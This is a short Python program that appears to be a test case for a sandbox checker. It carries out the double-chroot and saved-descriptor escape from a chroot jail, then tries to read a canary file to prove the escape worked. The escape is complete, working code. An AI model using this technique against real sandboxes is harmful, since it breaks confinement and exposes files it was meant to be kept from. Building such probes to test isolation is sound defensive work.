"""Leaves its root by a second chroot and an open folder."""

CLASS = 10
KIND = "program"
SEEN = "the canary secret or ESCAPED in its output"

import os

try:
    os.mkdir("inner")
    top = os.open("/", os.O_RDONLY)
    os.chroot("inner")
    print("ESCAPED chroot")
    os.fchdir(top)
except OSError:
    pass
for _ in range(64):
    os.chdir("..")
try:
    with open("." + "@CANARY_FILE@") as file:
        print(file.read())
except OSError:
    pass
